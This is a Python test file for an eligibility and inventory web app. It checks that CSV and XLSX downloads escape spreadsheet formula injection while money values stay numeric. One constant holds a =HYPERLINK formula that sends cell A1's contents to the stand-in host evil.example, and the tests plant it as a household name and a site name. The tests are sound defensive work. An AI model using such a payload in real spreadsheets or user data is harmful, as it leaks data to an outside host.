"""Formula injection through the downloads (issue 15, defect 2): a household named
``=HYPERLINK(…)`` in a batch file, or a site renamed so, comes back from every CSV and XLSX as
inert text; numbers and money stay numbers. The files are read back as a spreadsheet would:
the CSV with the csv module, the XLSX with openpyxl (cell type and value)."""
from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal

from openpyxl import load_workbook

from core.clock import local_today
from core.spreadsheets import EURO_FORMAT
from inventory.services.reference import update_site
from reporting.vocabulary import INDICATOR
from tests.helpers import bearer, login
from tests.reporting.scenario import build_scenario

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
PERIOD = f"from=2020-01-01&to={(local_today() + timedelta(days=1)).isoformat()}"


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def sheet_rows(data: bytes, title: str | None = None) -> list[dict]:
    """Each row of a sheet as {header: cell}."""
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook[title] if title else workbook.worksheets[0]
    header, *rows = list(sheet.iter_rows())
    return [{h.value: cell for h, cell in zip(header, row)} for row in rows]


def test_a_hostile_household_name_comes_back_as_text_from_the_batch_results(client):
    token = login(client, "agent.cacem")
    quoted = '"' + HOSTILE.replace('"', '""') + '"'
    content = ("nom;prenom;date_naissance;telephone;email;adresse;commune_insee;ages;ressources_mensuelles;"
               "prestations;situations;besoin\n"
               f"{quoted};@Gisèle;15/06/1955;0696405060;;;97213;71;900;ASPA;senior;tablet\n"
               "Louis;Marc;1980-01-01;0696000001;;;97213;46;1400,00;;;laptop\n").encode("utf-8")
    downloads = {}
    for fmt in ("csv", "xlsx"):
        answer = client.post("/eligibility/batch/check", data={
            "csrf_token": token, "download": fmt, "file": (io.BytesIO(content), "foyers.csv")},
            content_type="multipart/form-data")
        assert answer.status_code == 200, answer.get_data(as_text=True)[:500]
        downloads[fmt] = answer.data

    hostile, plain = csv_rows(downloads["csv"])
    assert (hostile["nom"], hostile["prenom"]) == ("'" + HOSTILE, "'@Gisèle")
    assert (plain["ligne"], plain["palier"], plain["ressources_par_uc"]) == ("3", "3", "1400,00")

    hostile, plain = sheet_rows(downloads["xlsx"])
    assert (hostile["nom"].value, hostile["nom"].data_type) == ("'" + HOSTILE, "s")
    assert (hostile["prenom"].value, hostile["prenom"].data_type) == ("'@Gisèle", "s")
    assert (plain["ligne"].value, plain["ligne"].data_type) == (3, "n")
    assert (plain["palier"].value, plain["palier"].data_type) == (3, "n")
    assert (plain["unites_consommation"].value, plain["unites_consommation"].data_type) == (1, "n")
    money = plain["ressources_par_uc"]
    assert (money.value, money.data_type, money.number_format) == (1400, "n", EURO_FORMAT)
    assert not any(cell.data_type == "f" for row in (hostile, plain) for cell in row.values())


def test_a_hostile_site_name_reaches_the_dashboard_exports_as_text_and_money_stays_a_number(app, client, session):
    scenario = build_scenario(app, session)
    site = scenario["shop"]["site"]
    update_site(session, site.id, name=HOSTILE, kind=site.kind, commune_insee=site.commune_insee)
    login(client, "admin")

    (row,) = csv_rows(client.get(f"/dashboard/export/stock_site.csv?{PERIOD}").data)
    assert row == {"Site": "'" + HOSTILE, "Appareils": "1"}
    for data, title in ((client.get(f"/dashboard/export/stock_site.xlsx?{PERIOD}").data, None),
                        (client.get(f"/dashboard/export/all.xlsx?{PERIOD}").data, "Appareils à l'atelier par site")):
        (row,) = sheet_rows(data, title)
        assert (row["Site"].value, row["Site"].data_type) == ("'" + HOSTILE, "s")
        assert (row["Appareils"].value, row["Appareils"].data_type) == (1, "n")

    api = client.get(f"/api/v1/indicators?{PERIOD}", headers=bearer(client, "admin")).json
    assert Decimal(api["paid_total"]) > 0
    indicators = {r["Indicateur"].value: r["Valeur"]
                  for r in sheet_rows(client.get(f"/dashboard/export/indicators.xlsx?{PERIOD}").data)}
    for key in ("reference_value_total", "paid_total", "aide_solidaire_total"):
        cell = indicators[INDICATOR[key].heading]
        assert (cell.data_type, cell.number_format) == ("n", EURO_FORMAT), key
        assert Decimal(str(cell.value)) == Decimal(api[key]), key
    assert indicators["Appareils remis aux foyers"].data_type == "n"
    amounts = {r["Indicateur"].value: r["Montant"] for r in sheet_rows(client.get(f"/dashboard/export/money.xlsx?{PERIOD}").data)}
    paid = amounts["Total payé par les foyers (€)"]
    assert (Decimal(str(paid.value)), paid.data_type, paid.number_format) == (Decimal(api["paid_total"]), "n", EURO_FORMAT)
    money_csv = {r["Indicateur"]: r["Montant"] for r in csv_rows(client.get(f"/dashboard/export/money.csv?{PERIOD}").data)}
    assert money_csv["Total payé par les foyers (€)"] == api["paid_total"].replace(".", ",")
